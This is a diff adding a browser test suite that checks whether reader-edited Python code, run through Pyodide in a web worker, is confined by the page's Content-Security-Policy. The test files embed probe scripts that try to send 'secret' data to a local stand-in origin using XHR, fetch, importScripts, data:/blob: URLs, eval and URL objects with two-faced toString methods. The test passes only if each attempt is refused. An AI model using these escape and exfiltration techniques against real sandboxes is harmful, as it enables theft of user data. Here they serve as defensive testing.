@@ -1,0 +1,257 @@
+"""The sandbox of a reader's code holds where no headers are sent (issue 45; the hostile probe
+of ../shared/reviews/hostile-round2.md, H-1, M-1, M-2, L-1), in Chromium, Firefox ESR and
+WebKitGTK, with the site served as GitHub Pages or `python3 -m http.server` serve it: files
+only, no header. A second loopback server stands for "another origin": it records every
+request that reaches it, and answers scripts that would say they ran.
+
+What holds is the browser's policy: kernel.js starts the Pyodide worker from a blob: URL, and
+such a worker inherits the page's <meta> Content-Security-Policy; lockdown.js is a second
+wall (an allow-list of the worker's globals, each URL converted once)."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import threading
+
+import pytest
+
+import engines
+from test_engines import Served
+
+pytestmark = pytest.mark.browser
+
+BOOT_S = 120
+PAGE = "cap15/index.html"
+ALL_READY = "() => [...document.querySelectorAll('.tw-widget')].every(w => w.dataset.state === 'ready' && !w.dataset.busy)"
+STATES = "() => [...document.querySelectorAll('.tw-widget')].map(w => [w.dataset.widget, w.dataset.state, w.querySelector('.tw-status').textContent])"
+
+
+class Elsewhere:
+    """Another origin (another port of 127.0.0.1): records each request; a script it serves
+    would report that it ran, to it and in the worker's global `twRan`."""
+
+    def __init__(self):
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def answer(self):
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length).decode(errors="replace") if length else ""
+                hits.append(f"{self.command} {self.path} {body}".strip())
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.send_header("Content-Type", "text/javascript")
+                self.end_headers()
+                self.wfile.write(b"self.twRan = 'ran';")
+
+            do_GET = do_POST = do_HEAD = do_OPTIONS = answer
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_port}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture(scope="module")
+def elsewhere():
+    other = Elsewhere()
+    yield other
+    other.close()
+
+
+@pytest.fixture(scope="module")
+def plain(site):
+    """The site as GitHub Pages serves it: files, no headers."""
+    served = Served(site, probe=False)
+    yield served.url
+    served.stop()
+
+
+@pytest.fixture(params=("chromium", "firefox", "webkit"))
+def any_engine(request, launched, elsewhere):
+    if request.param == "chromium":
+        engine = engines.Chromium(request.getfixturevalue("browser"))
+        yield engine
+        engine.close()
+    else:
+        engine = launched(request.param)
+        if getattr(engine, "dead", False):
+            engine.restart()
+        engine.recorder.hits.clear()
+        yield engine
+        assert engine.recorder.hits == []  # and nothing left 127.0.0.1
+    elsewhere.hits.clear()
+
+
+def wait_ready(engine) -> None:
+    try:
+        engine.wait(f"() => ({ALL_READY})() || [...document.querySelectorAll('.tw-widget')].some(w => w.dataset.state === 'error')",
+                    timeout=BOOT_S)
+    except TimeoutError:
+        pass
+    assert engine.js(ALL_READY), engine.js(STATES)
+
+
+# A worker started as kernel.js starts it (a blob: URL, from the site's page, which sends no
+# header) tries every route of H-1 with no lock-down at all: the page's policy alone refuses them.
+INHERITED = """async (other) => {
+  const code = `
+    const out = {};
+    const attempt = async (name, fn) => { try { await fn(); out[name] = "reached"; } catch (e) { out[name] = "refused"; } };
+    (async () => {
+      await attempt("fetch", () => fetch("${other}/inherited-fetch"));
+      await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", "${other}/inherited-xhr", false); x.send("secret"); });
+      await attempt("importScripts", () => importScripts("${other}/inherited.js"));
+      await attempt("importScripts data:", () => importScripts("data:text/javascript,self.twRan='data'"));
+      await attempt("importScripts blob:", () => importScripts(URL.createObjectURL(new Blob(["self.twRan='blob'"], {type: "text/javascript"}))));
+      await attempt("import()", () => import("${other}/inherited-module.js"));
+      await attempt("eval", () => eval("1 + 1"));
+      await attempt("Function", () => new Function("return 1")());
+      await attempt("FontFace", () => new FontFace("x", "url(${other}/inherited-font.woff2)").load());
+      out.ran = String(self.twRan);
+      postMessage(out);
+    })();`;
+  const worker = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
+  return await new Promise((resolve) => {
+    worker.onmessage = (e) => resolve(e.data);
+    worker.onerror = (e) => resolve({worker: "did not start: " + (e.message || "error")});
+  });
+}"""
+
+
+def test_the_page_policy_holds_its_blob_workers(any_engine, plain, elsewhere):
+    any_engine.goto(plain + PAGE)
+    found = any_engine.js(INHERITED, elsewhere.url)
+    expected = {name: "refused" for name in ("fetch", "xhr", "importScripts", "importScripts data:", "importScripts blob:",
+                                               "import()", "eval", "Function", "FontFace")}
+    assert found == {**expected, "ran": "undefined"}, found
+    assert elsewhere.hits == []
+
+
+# Python in the page's worker, as a reader's edit in the «Codi» panel runs: every route the
+# hostile probe found (H-1, M-1, L-1) and those around them; each says "reached" or "refused".
+PROBE = """
+import js, json
+from pyodide.ffi import create_proxy
+import pyodide_js
+OTHER = "ELSEWHERE"
+out = {}
+def attempt(name, fn):
+    try:
+        out[name] = "refused" if fn() is None else "reached"
+    except BaseException:
+        out[name] = "refused"
+def two_faced(used):
+    calls = [0]
+    def face(*_):
+        calls[0] += 1
+        return js.location.origin + "/index.html" if calls[0] == 1 else used
+    u = js.Object.new()
+    u.toString = create_proxy(face)
+    return u
+def xhr():
+    x = js.XMLHttpRequest.new()
+    x.open("POST", two_faced(OTHER + "/xhr-two-faced"), False)
+    x.send("secret=reader-data")
+    return None if x.responseURL.startswith(js.location.origin) else x.status
+def fetch_by_url():
+    o = js.Object.new()
+    o.url = js.location.origin + "/"
+    o.toString = create_proxy(lambda *_: OTHER + "/fetch-url-mismatch")
+    js.fetch(o)
+attempt("XMLHttpRequest", xhr)
+attempt("fetch", lambda: js.fetch(two_faced(OTHER + "/fetch-two-faced")) and None)
+attempt("fetch(url)", fetch_by_url)
+attempt("importScripts", lambda: js.importScripts(two_faced(OTHER + "/importScripts.js")))
+attempt("importScripts data:", lambda: js.importScripts(two_faced("data:text/javascript,self.twRan='data'")))
+attempt("blob: URL", lambda: js.URL.createObjectURL(js.Blob.new(["self.twRan='blob'"])))
+attempt("loadPyodide", lambda: js.loadPyodide)
+attempt("_createPyodideModule", lambda: js._createPyodideModule)
+attempt("Pyodide's loadScript", lambda: pyodide_js._api.loadScript(OTHER + "/loadScript.js"))
+attempt("FontFace", lambda: js.FontFace)
+attempt("fonts", lambda: js.fonts)
+attempt("storageBuckets", lambda: js.navigator.storageBuckets)
+attempt("webkitRequestFileSystem", lambda: js.webkitRequestFileSystem)
+attempt("webkitRequestFileSystemSync", lambda: js.webkitRequestFileSystemSync)
+attempt("locks", lambda: js.navigator.locks)
+attempt("navigator.storage", lambda: js.navigator.storage)
+attempt("indexedDB", lambda: js.indexedDB)
+attempt("caches", lambda: js.caches)
+attempt("postMessage", lambda: js.postMessage)
+attempt("eval", lambda: js.eval("1 + 1"))
+raise RuntimeError("PROBE" + json.dumps(out))
+"""
+RAN = "import js\nraise RuntimeError('RAN' + str(getattr(js, 'twRan', None)))\n"
+
+EDITED = """async (code, widget) => {
+  const k = tw.kernel.get(JSON.parse(document.getElementById('tw-config').dataset.config));
+  await k.ready;
+  const reply = await k.call('edited', {widget, key: 'prova', code, params: {}});
+  return reply.error ? reply.error.message : null;
+}"""
+
+
+def test_reader_code_reaches_no_other_origin_no_storage_and_no_code_from_text(any_engine, plain, elsewhere):
+    any_engine.goto(plain + PAGE)
+    wait_ready(any_engine)
+    said = any_engine.js(EDITED, PROBE.replace("ELSEWHERE", elsewhere.url), "cost")
+    found = json.loads(said.split("PROBE", 1)[1])
+    assert found and all(v == "refused" for v in found.values()), found
+    any_engine.js("() => new Promise((resolve) => setTimeout(resolve, 1500))")  # what was sent has arrived
+    assert any_engine.js(EDITED, RAN, "cost") == "RANNone"  # no script of another origin or from text ran
+    assert elsewhere.hits == []
+    assert any_engine.js(ALL_READY)
+
+
+# M-2: a hanging edit, «Reinicia Python» on another widget: a fresh worker that does not run the
+# edit again (it waits as a draft, as after «Atura»), and every widget computes.
+HANG = """async () => {
+  const w = document.querySelector('.tw-widget[data-widget="cost"]');
+  const key = `tw-codi:${location.pathname.replace(/\\/index\\.html$/, "/")}#${w.dataset.instance}`;
+  localStorage.setItem(key, JSON.stringify({code: "while True:\\n    pass\\n"}));
+}"""
+RUN_DRAFT = """async () => {
+  const w = document.querySelector('.tw-widget[data-widget="cost"]');
+  w.querySelector('.tw-code-toggle').click();
+  const until = (f) => new Promise((resolve) => { const t = () => f() ? resolve() : setTimeout(t, 50); t(); });
+  await until(() => w.querySelector('.tw-code[data-editor]') && !w.querySelector('.tw-code-run').hidden);
+  w.querySelector('.tw-code-run').click();
+}"""
+HUNG = "() => [...document.querySelectorAll('.tw-widget')].every(w => w.querySelector('.tw-hung button'))"
+RESTART = """() => document.querySelector('.tw-widget[data-widget="roofline"] .tw-hung button').click()"""
+
+
+def test_restarting_a_hung_python_keeps_the_hanging_edit_as_a_draft(any_engine, plain):
+    any_engine.goto(plain + PAGE)
+    wait_ready(any_engine)
+    any_engine.js(HANG)
+    any_engine.reload()  # the stored edit is a draft: it does not run by itself
+    wait_ready(any_engine)
+    any_engine.js(RUN_DRAFT)
+    any_engine.wait(HUNG, timeout=60)
+    any_engine.js(RESTART)
+    wait_ready(any_engine)
+    cost = '.tw-widget[data-widget="cost"]'
+    assert any_engine.js(f"() => [document.querySelector('{cost}').dataset.draft, document.querySelector('{cost}').dataset.edited]") == ["true", None]
+    # the fresh worker answers: a change of another widget is computed, and nothing hangs again
+    assert any_engine.js("""async () => {
+      const w = document.querySelector('.tw-widget[data-widget="roofline"]');
+      const before = w.dataset.values;
+      const select = w.querySelector('select[name=model]');
+      select.value = [...select.options].map((o) => o.value).find((v) => v !== select.value);
+      select.dispatchEvent(new Event('input', {bubbles: true}));
+      const t0 = Date.now();
+      while (Date.now() - t0 < 30000) {
+        if (w.dataset.values !== before && w.dataset.state === 'ready' && !w.dataset.busy) return true;
+        await new Promise((r) => setTimeout(r, 50));
+      }
+      return false;
+    }""")
+    assert any_engine.js("() => document.querySelectorAll('.tw-hung').length") == 0
